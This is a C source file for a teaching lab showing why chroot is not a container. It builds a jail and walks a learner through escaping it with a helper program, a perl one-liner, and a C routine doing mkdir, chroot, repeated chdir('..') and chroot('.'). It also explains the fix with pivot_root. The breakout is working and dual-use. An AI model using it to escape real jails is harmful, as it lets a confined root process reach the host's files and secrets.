/* SPDX-License-Identifier: GPL-2.0-or-later */
/* chroot-escape.c: why chroot is not a container. Setup builds a jail (a few
 * host programs with their libraries, plus the static nslab-escape helper)
 * and chroots the lab process into it. The learner escapes three ways: a
 * one-shot command, a long-lived escaped process (observable in /proc), and
 * by hand, making the lab process itself do each system call. */
#include "nslab-lab.h"
#include "nslab-lab-util.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define JAIL_NAME "jail"
#define ESCAPE_BIN "/nslab-escape"
#define ESCAPE_DIR "/.nslab-escape" /* made by the helper in the jail's / */
#define ESCAPED_CMD "sleep"
#define ESCAPED_ARG "3600"
#define MAX_DEPTH 16 /* process tree depth searched below the lab process */

static const char *const jail_programs[] = {
    "/bin/sh",       "/bin/ls",    "/bin/cat",  "/bin/mkdir",    "/bin/pwd",
    "/bin/readlink", "/bin/sleep", "/bin/stat", "/usr/bin/perl", /* step 3's climb with the real tools */
};

/* --- small helpers --- */

static const char *root_path(struct nslab_host *h)
{
	const char *r = h->root(h);
	return r ? r : "";
}

/* Is the root directory of process pid the host's / (nslab's own)? */
static bool root_is_host(pid_t pid)
{
	char link[64];
	snprintf(link, sizeof(link), "/proc/%d/root", (int)pid);
	return nslab_same_file(link, "/");
}

static void proc_target(pid_t pid, const char *what, char *buf, size_t len)
{
	char link[64];
	snprintf(link, sizeof(link), "/proc/%d/%s", (int)pid, what);
	ssize_t n = readlink(link, buf, len - 1);
	if (n <= 0)
		snprintf(buf, len, "?");
	else
		buf[n] = '\0';
}

static pid_t parent_of(pid_t pid)
{
	struct nslab_proc_stat st;
	return nslab_proc_stat(pid, &st) == 0 ? st.ppid : 0;
}

static bool descends_from(pid_t pid, pid_t ancestor)
{
	for (int i = 0; i < MAX_DEPTH && pid > 1; i++) {
		pid = parent_of(pid);
		if (pid == ancestor)
			return true;
	}
	return false;
}

/* Did the escape helper start pid (its mark in the environment)? */
static bool marked_escaped(pid_t pid)
{
	char path[64], env[8192];
	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	ssize_t n = read(fd, env, sizeof(env) - 1);
	close(fd);
	env[n > 0 ? n : 0] = '\0';
	for (ssize_t i = 0; i < n; i += (ssize_t)strlen(env + i) + 1) {
		if (strcmp(env + i, "NSLAB_ESCAPED=1") == 0)
			return true;
	}
	return false;
}

/* One of the lab's subjects (its cgroup: what `run ... &` started, however
 * re-parented) that the escape helper left with the host's / as its root. */
static pid_t find_escaped_subject(struct nslab_host *h)
{
	if (!NSLAB_HOST_HAS(h, subjects) || !h->subjects)
		return 0;
	pid_t pids[256], main = h->main_pid(h);
	long n = h->subjects(h, pids, 256);
	for (long i = 0; i < n && i < 256; i++)
		if (pids[i] > 1 && pids[i] != main && root_is_host(pids[i]) && marked_escaped(pids[i]))
			return pids[i];
	return 0;
}

/* A process below the lab process (not the lab process itself) whose root is
 * the host's /, or a subject the escape helper marked: proof of an escape
 * that is still running. 0 if none. */
static pid_t find_escaped(struct nslab_host *h)
{
	pid_t main = h->main_pid(h), found = find_escaped_subject(h);
	if (found)
		return found;
	DIR *d = opendir("/proc");
	if (!d)
		return 0;
	struct dirent *de;
	while (!found && (de = readdir(d))) {
		char *end;
		long pid = strtol(de->d_name, &end, 10);
		if (*end || pid <= 1 || pid == main)
			continue;
		if (descends_from((pid_t)pid, main) && root_is_host((pid_t)pid))
			found = (pid_t)pid;
	}
	closedir(d);
	return found;
}

/* --- run inside the lab process (h->call) --- */

static int ag_chroot(void *arg, char *out, size_t outlen)
{
	(void)out, (void)outlen;
	return chroot(arg);
}

/* Forks the escape helper from the lab process: it starts in the jail
 * because its parent is there. out gets the child's PID. */
static int ag_spawn_escape(void *arg, char *out, size_t outlen)
{
	(void)arg;
	/* Dies with the lab process even if nslab is SIGKILLed; the setting
	 * survives execve of ordinary (not set-user-ID) programs. */
	pid_t pid = nslab_fork_tied();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		execl(ESCAPE_BIN, "nslab-escape", ESCAPED_CMD, ESCAPED_ARG, (char *)NULL);
		_exit(127);
	}
	snprintf(out, outlen, "%d", (int)pid);
	return 0;
}

/* True when "." and ".." are the same directory: the top of the real tree. */
static bool at_top(void)
{
	struct stat dot, dotdot;
	if (stat(".", &dot) < 0 || stat("..", &dotdot) < 0)
		return true;
	return dot.st_dev == dotdot.st_dev && dot.st_ino == dotdot.st_ino;
}

/* The whole manual escape in one call, from wherever the learner left the
 * lab process (even stranded between the two chroots): start from the
 * current root so the new one is below the working directory. out: how many
 * chdir("..") calls it took. */
static int ag_escape_by_hand(void *arg, char *out, size_t outlen)
{
	(void)arg;
	if (chdir("/") < 0 || (mkdir("out", 0755) < 0 && errno != EEXIST) || chroot("out") < 0)
		return -1;
	int ups = 0;
	for (; ups < 256 && !at_top(); ups++)
		if (chdir("..") < 0)
			return -1;
	if (chroot(".") < 0 || chdir("/") < 0)
		return -1;
	snprintf(out, outlen, "%d", ups);
	return 0;
}

/* --- lab commands --- */

static int cmd_rejail(struct nslab_host *h, int argc, char **argv)
{
	(void)argc;
	if (h->call(h, h->main_pid(h), ag_chroot, argv[1], strlen(argv[1]) + 1, NULL, 0) < 0) {
		int err = errno;
		h->trace(h, "chroot(\"%s\") = -1 %s", argv[1], strerrorname_np(err));
		h->error(h, "chroot %s: %s%s", argv[1], strerror(err),
			 err == EPERM ? _(" (chroot needs CAP_SYS_CHROOT: run nslab as root)") : "");
		return -1;
	}
	h->trace(h, "chroot(\"%s\") = 0", argv[1]);
	char root[PATH_MAX], cwd[PATH_MAX];
	proc_target(h->main_pid(h), "root", root, sizeof(root));
	proc_target(h->main_pid(h), "cwd", cwd, sizeof(cwd));
	h->print(h, _("the lab process's root is now %s; its working directory is still %s (host paths)\n"),
		 root, cwd);
	return 0;
}

static int cmd_chdir(struct nslab_host *h, int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : "/";
	char cwd[PATH_MAX] = "";
	if (nslab_lab_chdir(h, dir, cwd, sizeof(cwd)) < 0)
		return -1;
	char host[PATH_MAX];
	proc_target(h->main_pid(h), "cwd", host, sizeof(host));
	h->print(h, _("the lab process's working directory is now %s (getcwd says %s)\n"), host, cwd);
	return 0;
}

static int cmd_escape(struct nslab_host *h, int argc, char **argv)
{
	(void)argc, (void)argv;
	char out[32] = "";
	if (root_is_host(h->main_pid(h))) {
		h->error(h, _("the lab process has already escaped, so there is no jail to start from: "
			      "`reset` builds a fresh one"));
		return -1;
	}
	if (h->call(h, h->main_pid(h), ag_spawn_escape, NULL, 0, out, sizeof(out)) < 0) {
		h->error(h, _("starting %s in the lab process failed: %s"), ESCAPE_BIN, strerror(errno));
		return -1;
	}
	pid_t pid = (pid_t)atoi(out);
	if (pid <= 0) {
		h->error(h, _("starting %s: no PID came back"), ESCAPE_BIN);
		return -1;
	}
	h->keep(h, NSLAB_OBJ_PROCESS, out);
	h->trace(h, "fork() = %d  (in the lab process)", (int)pid);
	h->trace(h, "execve(\"%s\", [\"nslab-escape\", \"%s\", \"%s\"], ...) = 0", ESCAPE_BIN, ESCAPED_CMD,
		 ESCAPED_ARG);
	/* The helper needs a moment to get out; wait for its root to change. */
	for (int i = 0; i < 100 && !root_is_host(pid); i++)
		nanosleep(&(struct timespec){0, 20 * 1000 * 1000}, NULL);
	h->show_pid(h, pid, "escaped");
	if (!root_is_host(pid)) {
		h->error(h, _("PID %d did not get out (is %s in the jail?)"), (int)pid, ESCAPE_BIN);
		return -1;
	}
	h->print(h, _("PID %d (%s %s) escaped: its root is the host's /. Try `host ls -l /proc/%d/root`\n"),
		 (int)pid, ESCAPED_CMD, ESCAPED_ARG, (int)pid);
	return 0;
}

static const struct nslab_command commands[] = {
    {"escape", N_("escape"),
     N_("start `" ESCAPE_BIN " " ESCAPED_CMD " " ESCAPED_ARG "` from the lab process, and show it"), 0, 0,
     cmd_escape},
    {"rejail", N_("rejail DIR"), N_("make the lab process call chroot(DIR) (its working directory stays)"), 1,
     1, cmd_rejail},
    {"chdir", N_("chdir [DIR]"),
     N_("make the lab process call chdir(DIR) (later `run` commands start there)"), 0, 1, cmd_chdir},
};

/* --- steps --- */

/* The escape program leaves ESCAPE_DIR/reached in the jail: "DEV INO" of
 * the / its walk reached. Step 1 is done when that is the host's /. */
static bool check_once(struct nslab_host *h)
{
	char path[PATH_MAX];
	struct stat host;
	unsigned long long dev = 0, ino = 0;
	snprintf(path, sizeof(path), "%s" ESCAPE_DIR "/reached", root_path(h));
	FILE *f = fopen(path, "re");
	int n = f ? fscanf(f, "%llu %llu", &dev, &ino) : 0;
	if (f)
		fclose(f);
	if (n == 2 && stat("/", &host) == 0 && dev == (unsigned long long)host.st_dev &&
	    ino == (unsigned long long)host.st_ino)
		return true;
	h->missing(h,
		   _("the escape program has not reached the host's / from the jail yet (it notes that in "
		     "%s/reached): `run " ESCAPE_BIN " -v ls /`"),
		   ESCAPE_DIR);
	return false;
}

static int do_once(struct nslab_host *h)
{
	h->print(h, "$ run " ESCAPE_BIN " -v ls /\n");
	int st = h->run(h, 0, ESCAPE_BIN " -v ls /", NULL);
	h->trace(h, "mkdir(\".nslab-escape\", 0755) = 0");
	h->trace(h, "chroot(\".nslab-escape\") = 0");
	h->trace(h, "chdir(\"..\") = 0  (repeated until \"..\" is \".\")");
	h->trace(h, "chroot(\".\") = 0");
	h->trace(h, "execve(\"/bin/ls\", [\"ls\", \"/\"], ...) = 0");
	return st == 0 ? 0 : -1;
}

/* A subject other than the lab process with the host's / as its root that
 * the escape program did not start (a `host sleep &`), 0 if none: the
 * closest to an escaped process, for the check's message. */
static pid_t unmarked_on_host(struct nslab_host *h)
{
	pid_t pids[64];
	unsigned n = nslab_other_subjects(h, pids, 64);
	for (unsigned i = 0; i < n; i++)
		if (pids[i] > 1 && root_is_host(pids[i]) && !marked_escaped(pids[i]))
			return pids[i];
	return 0;
}

static bool check_running(struct nslab_host *h)
{
	if (find_escaped(h))
		return true;
	pid_t near = unmarked_on_host(h);
	if (near)
		h->missing(h,
			   _("PID %d has the host's / as its root, but it never was in the jail (the escape "
			     "program did not start it): `host chroot $NSLAB_LAB_ROOT " ESCAPE_BIN
			     " sleep 3600 &`, or `escape`"),
			   (int)near);
	else
		h->missing(
		    h,
		    _("no process of the lab has escaped to the host's / (the lab process is in the jail): "
		      "`host chroot $NSLAB_LAB_ROOT " ESCAPE_BIN " sleep 3600 &`, or `escape`"));
	return false;
}

static int do_running(struct nslab_host *h)
{
	char *argv[] = {"escape", NULL};
	return cmd_escape(h, 1, argv);
}

/* Does pid run a program from inside the jail? /proc/PID/exe names the
 * file it exec'd, resolved (from nslab's root) when it exec'd: a process
 * started in the jail that climbed out by itself, without an exec since,
 * still runs the jail's copy. */
static bool runs_jail_program(struct nslab_host *h, pid_t pid)
{
	char jail[PATH_MAX], exe[PATH_MAX];
	if (!realpath(root_path(h), jail))
		return false;
	proc_target(pid, "exe", exe, sizeof(exe));
	size_t n = strlen(jail);
	return strncmp(exe, jail, n) == 0 && exe[n] == '/';
}

/* A subject other than the lab process that left the jail by its own
 * chroot calls (`host chroot $NSLAB_LAB_ROOT perl -e '...'`): the host's /
 * as its root, a program of the jail as its executable. 0 if none; *jailed:
 * the first that runs a program of the jail and is still in it. */
static pid_t climbed_out(struct nslab_host *h, pid_t *jailed)
{
	pid_t pids[64];
	unsigned n = nslab_other_subjects(h, pids, 64);
	for (unsigned i = 0; i < n; i++) {
		if (pids[i] <= 1 || !runs_jail_program(h, pids[i]))
			continue;
		if (root_is_host(pids[i]))
			return pids[i];
		if (!*jailed)
			*jailed = pids[i];
	}
	return 0;
}

#define PERL_CLIMB                                                                                           \
	"host chroot $NSLAB_LAB_ROOT /usr/bin/perl -e 'mkdir \"out\"; chroot \"out\"; chdir \"..\" for "     \
	"1..64; "                                                                                            \
	"chroot \".\"; sleep 3600' &"

/* The lab process, or a learner's process started in the jail, has the
 * host's / as its root. When none, says what the closest lacks: a
 * learner's process still in the jail, else the lab process. */
static bool check_by_hand(struct nslab_host *h)
{
	pid_t main = h->main_pid(h), jailed = 0;
	if (root_is_host(main) || climbed_out(h, &jailed))
		return true;
	char root[PATH_MAX], cmd[64];
	if (jailed) {
		proc_target(jailed, "root", root, sizeof(root));
		h->missing(h,
			   _("PID %d (%s) was started in the jail but still has %s as its root: its own "
			     "chroot(\"out\"), chdir(\"..\") many times and chroot(\".\") climb out: `%s`"),
			   (int)jailed, nslab_cmdline(jailed, cmd, sizeof(cmd)), root, PERL_CLIMB);
		return false;
	}
	proc_target(main, "root", root, sizeof(root));
	h->missing(h,
		   _("the lab process (PID %d) still has %s as its root, and no process started in the jail "
		     "has climbed out by itself: `%s`, or `rejail /out`, `chdir ../../../../../../..`, "
		     "`rejail .`"),
		   (int)main, root, PERL_CLIMB);
	return false;
}

static int do_by_hand(struct nslab_host *h)
{
	char ups[16] = "";
	if (h->call(h, h->main_pid(h), ag_escape_by_hand, NULL, 0, ups, sizeof(ups)) < 0) {
		h->error(h, _("the escape in the lab process failed: %s"), strerror(errno));
		return -1;
	}
	h->trace(h, "chdir(\"/\") = 0");
	h->trace(h, "mkdir(\"out\", 0755) = 0");
	h->trace(h, "chroot(\"out\") = 0");
	h->trace(h, "chdir(\"..\") = 0   (x%s, until \"..\" is \".\")", ups);
	h->trace(h, "chroot(\".\") = 0");
	h->trace(h, "chdir(\"/\") = 0");
	h->print(h, _("the lab process made: mkdir out, chroot out, chdir .. (x%s), chroot .\n"), ups);
	h->print(h, "$ run ls /\n");
	return h->run(h, 0, "ls /", NULL) == 0 ? 0 : -1;
}

static int escape_setup(struct nslab_host *h)
{
	char root[PATH_MAX], dst[PATH_MAX + 16];
	snprintf(root, sizeof(root), "%s/" JAIL_NAME, h->workdir(h));
	const char *helper = h->helper(h, "nslab-escape");
	if (!helper) {
		h->error(h, _("the nslab-escape helper program is missing (build it with `make`)"));
		return -1;
	}
	if (mkdir(root, 0755) < 0 && errno != EEXIST) {
		h->error(h, "mkdir %s: %s", root, strerror(errno));
		return -1;
	}
	h->set_root(h, root);
	for (size_t i = 0; i < NSLAB_ARRAY_SIZE(jail_programs); i++) {
		/* Only the shell is essential: a jail without stat is still a jail. */
		if (i > 0 && access(jail_programs[i], X_OK) != 0)
			continue;
		if (h->rootfs_add(h, root, jail_programs[i]) < 0)
			return -1;
	}
	/* A /dev/null, so that `run CMD &` (stdin from /dev/null) works in the jail. */
	snprintf(dst, sizeof(dst), "%s/dev", root);
	if (mkdir(dst, 0755) < 0 && errno != EEXIST) {
		h->error(h, "mkdir %s: %s", dst, strerror(errno));
		return -1;
	}
	snprintf(dst, sizeof(dst), "%s/dev/null", root);
	if (mknod(dst, S_IFCHR | 0666, makedev(1, 3)) < 0 && errno != EEXIST) {
		h->error(h, "mknod %s: %s", dst, strerror(errno));
		return -1;
	}
	chmod(dst, 0666); /* whatever the umask took */
	snprintf(dst, sizeof(dst), "%s" ESCAPE_BIN, root);
	if (h->copy_file(h, helper, dst) < 0) {
		h->error(h, _("copying %s into the jail: %s"), helper, strerror(errno));
		return -1;
	}
	struct nslab_spawn how = {.size = sizeof(struct nslab_spawn), .label = "jailed"};
	if (h->spawn(h, &how) < 0)
		return -1;
	if (h->call(h, h->main_pid(h), nslab_call_chroot, root, strlen(root) + 1, NULL, 0) < 0) {
		int err = errno;
		h->error(h, _("chroot %s in the lab process failed: %s%s"), root, strerror(err),
			 err == EPERM ? _(" (chroot needs CAP_SYS_CHROOT: run nslab as root, e.g. with sudo)")
				      : "");
		return -1;
	}
	h->trace(h, "chroot(\"%s\") = 0", root);
	h->trace(h, "chdir(\"/\") = 0");
	return 0;
}

static const struct nslab_step steps[] = {
    {
	.title = N_("Escape once"),
	.task = N_("nslab built a jail like the one from the chroot lab (a shell, ls, cat, ...) "
		   "and chrooted the lab process into it. The jail also holds " ESCAPE_BIN ", a "
		   "small static program. Look around, then run it:\n"
		   "\n"
		   "  run ls /\n"
		   "  run cd ../../.. ; ls\n"
		   "  run " ESCAPE_BIN " -v ls /\n"
		   "  run ls /\n"
		   "  run ls -a /\n"
		   "\n"
		   "The first two list the jail, even after the cd; the escape program lists the "
		   "host's /; the next ls the jail again: only that command got out. ls -a shows "
		   "the /.nslab-escape it left behind."),
	.hint = N_("-v makes the escape program print each system call it makes."),
	.explain = N_("The escape program did, as root inside the jail:\n"
		      "  mkdir(\".nslab-escape\")   a directory inside the jail\n"
		      "  chroot(\".nslab-escape\")  the root moves down, the working directory\n"
		      "                           does not: it is now ABOVE the root\n"
		      "  chdir(\"..\") many times   \"..\" stops only at the root, and the walk\n"
		      "                           never meets it again: it ends at the real /\n"
		      "  chroot(\".\")              the real / is the root again; then execve(ls)\n"
		      "chroot(2) changes the root used for path lookup and nothing else; its manual "
		      "page says it does not change the working directory. Root inside the jail "
		      "still holds CAP_SYS_CHROOT, so it may call chroot as often as it likes."),
	.check = check_once,
	.perform = do_once,
    },
    {
	.title = N_("Keep a process outside"),
	.task = N_("A process that escaped stays escaped. Start one in the jail with chroot(8), "
		   "as a jailed service would be started, let it escape and live on, and look at "
		   "it from the host:\n"
		   "\n"
		   "  host chroot $NSLAB_LAB_ROOT " ESCAPE_BIN " sleep 3600 &\n"
		   "  host pgrep -a -x sleep\n"
		   "  host ls -l /proc/$NSLAB_LAB_PID/root\n"
		   "  host ls -l /proc/$(pgrep -n -x sleep)/root\n"
		   "\n"
		   "pgrep shows the sleeper's PID; the lab process's root is the jail, the "
		   "sleeper's the host's /. nslab's shortcut, and what `do` does, starts the "
		   "same from the lab process and prints the PID:\n"
		   "\n"
		   "  escape"),
	.hint = N_("The check looks among the lab's processes (everything `host ... &` and `run` "
		   "started, however re-parented, and watched PIDs) for one whose root is the "
		   "host's / and that the escape program started. `escape` also adds the "
		   "process to the pane."),
	.explain = N_("/proc/PID/root shows the root directory of any process. The lab process "
		      "points into the jail, its escaped child at /. `ns` shows that neither "
		      "differs from the host in any namespace: chroot isolated nothing to begin "
		      "with. The escaped process is plain root on the host: it can read /etc/shadow "
		      "or load kernel modules. (Even inside the jail it could kill any host "
		      "process: chroot hides files, not processes.)"),
	.check = check_running,
	.perform = do_running,
    },
    {
	.title = N_("Escape by hand"),
	.task = N_("Now escape by hand, one system call at a time, without the escape program. "
		   "perl (copied into the jail) makes each call itself: start it in the jail "
		   "with chroot(8), let it chroot into a subdirectory, climb with chdir(\"..\") "
		   "and chroot(\".\") at the top, then look at its root from the host:\n"
		   "\n"
		   "  host chroot $NSLAB_LAB_ROOT /usr/bin/perl -e 'mkdir \"out\"; chroot \"out\"; chdir "
		   "\"..\" for 1..64; chroot \".\"; sleep 3600' &\n"
		   "  host ls -l /proc/$(pgrep -n -x perl)/root\n"
		   "\n"
		   "nslab's shortcut makes the lab process itself do the same calls (rejail and "
		   "chdir are commands of this lab: the lab process calls chroot(2) and "
		   "chdir(2)):\n"
		   "\n"
		   "  run mkdir -p /out\n"
		   "  rejail /out\n"
		   "  chdir ../../../../../../../..\n"
		   "  rejail .\n"
		   "  run ls /\n"
		   "\n"
		   "After `rejail /out` the working directory is outside the root; the chdir "
		   "climbs to the real /. Between the two chroots `run` cannot work: /out holds "
		   "no shell."),
	.hint = N_("If you are stuck between the chroots, keep going: `chdir` with enough \"..\", "
		   "then `rejail .`. `reset` starts the lab over."),
	.explain = N_("The same four calls as the program, made by the lab process: /proc/PID/root "
		      "now points at /. The fix is not a better chroot but a different tool: "
		      "pivot_root(2), in a new mount namespace, makes another mount the root mount "
		      "and moves the old root to put_old, where it stays mounted until "
		      "umount2(put_old, MNT_DETACH) detaches it; after that there is nothing left "
		      "above / to climb to (the pivot-root lab). Dropping CAP_SYS_CHROOT takes the "
		      "first chroot away. Being root only inside a user namespace does not: root "
		      "in a user namespace holds CAP_SYS_CHROOT there, and the climb still reaches "
		      "the top of its mount namespace."),
	.check = check_by_hand,
	.perform = do_by_hand,
    },
};

static const struct nslab_lab escape_lab = {
    .abi_major = NSLAB_ABI_MAJOR,
    .size = sizeof(struct nslab_lab),
    .id = "chroot-escape",
    .title = N_("chroot escape: why chroot is not a container"),
    .summary = N_("A chroot jail holds only processes that cannot call chroot themselves. As root inside the "
		  "jail you make a directory, chroot into it, and since the working directory stays outside "
		  "the new root, `..` climbs all the way up to the host's /."),
    .order = 20,
    NSLAB_STEPS(steps),
    .setup = escape_setup,
    NSLAB_COMMANDS(commands),
    .textdomain = NSLAB_TEXTDOMAIN,
};

NSLAB_LAB(escape_lab)
